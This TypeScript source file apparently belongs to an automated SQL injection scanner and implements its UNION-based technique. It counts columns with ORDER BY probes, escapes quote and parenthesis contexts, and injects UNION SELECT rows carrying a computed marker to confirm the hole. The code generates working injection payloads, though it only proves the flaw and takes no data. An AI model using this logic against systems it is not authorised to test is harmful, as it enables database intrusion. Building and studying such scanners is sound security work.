import type { Exchange } from "../../../src/model/exchange.ts";
import { succeeded } from "../../../src/model/reply.ts";
import { learnAnswer, sameAnswer } from "../../../src/oracle/answer/stable.ts";
import { showsComputed } from "../../../src/oracle/computed.ts";
import { newMarker } from "../../../src/payloads/marker.ts";
import { aNumber } from "../../../src/payloads/sql/place.ts";
import { baseAnswer } from "./baselines.ts";
import { shownPlace } from "./boolean.ts";
import { sightOf } from "./sight.ts";
import { type Aim, labelled, sentValue, type Technique } from "./technique.ts";

/** Columns of a select list that are looked for; wider ones are left to the other techniques. */
const mostColumns = 24;
/** Columns that are tried where they cannot be counted. */
const mostColumnsTried = 8;

/**
 * Adds a row of its own: the number of columns is found with ORDER BY, then a product that only the database can compute is
 * put into the columns until it shows in the reply.
 */
export const unionTechnique: Technique = {
  name: "union",
  computes: true,
  async probe(aim) {
    for (const open of openings(aim)) {
      const columns = await countColumns(aim, `${aim.base}${open}`);
      if (columns > 0) return fill(aim, open, "-- g", columns);
    }
    const shown = shownPlace(aim.sent());
    if (shown?.leaves === undefined || shown.rest === undefined) return;
    // Where a comment is refused: as many columns as make a statement, and a condition that takes up what follows the value.
    const end = ` FROM (SELECT 1 AS g) AS g WHERE ${shown.rest}`;
    for (let columns = 1; columns <= mostColumnsTried; columns += 1) {
      const value = rowOf(
        aim,
        shown.leaves,
        end,
        Array.from({ length: columns }, () => "NULL"),
      );
      const exchange = await aim.send(value, { role: "confirm", label: `columns:${columns}` });
      if (succeeded(exchange.reply)) return fill(aim, shown.leaves, end, columns);
    }
  },
  find(exchanges) {
    const hit = labelled(exchanges, "union").find((exchange) =>
      showsComputed(exchange, String(exchange.facts.computed)),
    );
    if (hit === undefined) return undefined;
    return {
      proof: [hit.id],
      because: "a row added with UNION came back, holding a value that only the database could compute",
    };
  },
};

/** Ways out of what the value stands in; the rest of the line is cut off. Without one, ORDER BY cannot do anything either. */
function openings(aim: Aim): readonly string[] {
  const shown = shownPlace(aim.sent());
  // A condition may leave parentheses open that a further SELECT has to close.
  if (shown !== undefined) {
    const { leaves } = shown;
    return leaves === undefined ? [] : [leaves, `${leaves})`, `${leaves}))`];
  }
  const unsteady = baseAnswer(aim.sent()) === undefined && !sightOf(aim.sent()).blind;
  return unsteady ? ["'", "')", ""] : [];
}

/** How many columns the statement selects that `start` leaves; 0 when ORDER BY changes nothing, which is what a bound value does. */
async function countColumns(aim: Aim, start: string): Promise<number> {
  const orderBy = (column: number): Promise<Exchange> =>
    aim.send(`${start} ORDER BY ${column}-- g`, { role: "confirm", label: `columns:${column}` });
  const low = await orderBy(1);
  if (!succeeded(low.reply)) return 0;
  // Asked twice: a reply that changes by itself, such as the number of a new record, must not look like a change of ours.
  const valid = learnAnswer([low.reply, (await orderBy(1)).reply], sentValue(low));
  const beyond = await orderBy(mostColumns + 1);
  if (valid === undefined || sameAnswer(valid, beyond.reply, sentValue(beyond))) return 0;
  let known = 1;
  let above = mostColumns + 1;
  while (above - known > 1) {
    const middle = Math.floor((known + above) / 2);
    const exchange = await orderBy(middle);
    if (sameAnswer(valid, exchange.reply, sentValue(exchange))) known = middle;
    else above = middle;
  }
  return known;
}

/** Puts the product into all columns at once, where types do not matter, then into one after the other. */
async function fill(aim: Aim, open: string, end: string, columns: number): Promise<void> {
  for (let at = -1; at < columns; at += 1) {
    const marker = newMarker(aim.random);
    // Characters of a fixed number: all four dialects know them.
    const product = `CAST(${marker.a}*${marker.b} AS char(20))`;
    const cells = Array.from({ length: columns }, (_, column) => (at < 0 || column === at ? product : "NULL"));
    const exchange = await aim.send(rowOf(aim, open, end, cells), {
      role: "attack",
      label: `union:${columns}:${at < 0 ? "all" : at + 1}`,
      facts: { computed: marker.product },
    });
    if (showsComputed(exchange, marker.product)) return;
  }
}

function rowOf(aim: Aim, open: string, end: string, cells: readonly string[]): string {
  return `${nothing(aim, open)}${open} UNION SELECT ${cells.join(",")}${end}`;
}

/** Matches no row, so that the added one is the first. */
function nothing({ base, random }: Aim, open: string): string {
  if (/['"]/.test(open)) return random.word(8);
  return aNumber.test(base) ? `-${random.integer(10_000, 99_999)}` : `${base} AND 1=2`;
}
